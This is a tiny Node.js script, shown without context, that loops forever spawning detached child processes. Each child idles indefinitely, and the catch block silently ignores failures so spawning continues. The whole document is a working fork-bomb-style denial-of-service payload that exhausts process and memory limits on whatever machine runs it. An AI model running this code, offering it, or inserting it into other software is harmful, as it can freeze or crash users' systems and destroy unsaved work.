const { spawn } = require('child_process');
for (;;) {
  try { spawn('/usr/bin/node', ['-e', 'setInterval(() => {}, 1000)'], { detached: true }); }
  catch (e) { /* keep trying */ }
}
